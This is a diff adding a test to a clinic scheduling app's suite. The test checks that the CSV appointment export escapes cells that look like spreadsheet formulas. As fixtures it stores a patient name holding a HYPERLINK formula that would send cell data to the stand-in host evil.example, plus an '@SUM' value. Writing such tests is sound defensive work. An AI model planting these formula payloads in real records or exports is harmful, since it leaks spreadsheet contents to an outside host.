@@ -329,6 +329,23 @@ def test_csv_quotes_awkward_names_and_says_when_there_is_nothing(clinic: SmallCl
     assert empty.splitlines() == [",".join(export.CSV_COLUMNS)]
 
 
+def test_csv_cells_that_look_like_formulas_are_kept_as_text(clinic: SmallClinic) -> None:
+    from ketadesk.store.models import Patient
+
+    with clinic.db.write() as s:
+        ada = s.get(Patient, clinic.ids["Ada Lovelace"])
+        assert ada is not None
+        ada.last_name = '=HYPERLINK("http://evil.example/?"&A1,"Lovelace")'
+        ada.first_name = "@SUM(1+1)"
+    _book_everyone(clinic)
+    text = export.appointments_csv(clinic.db, dt.date(2027, 3, 10), dt.date(2027, 3, 10))
+    (row,) = csv.DictReader(io.StringIO(text, newline=""))
+    assert row["last_name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Lovelace")'
+    assert row["first_name"] == "'@SUM(1+1)"
+    assert row["date"] == "2027-03-10"  # ordinary cells untouched
+    assert export.spreadsheet_safe(-3) == -3  # a number is a number, not a formula
+
+
 # ---------------------------------------------------------------------------------------------
 # Bad input
 
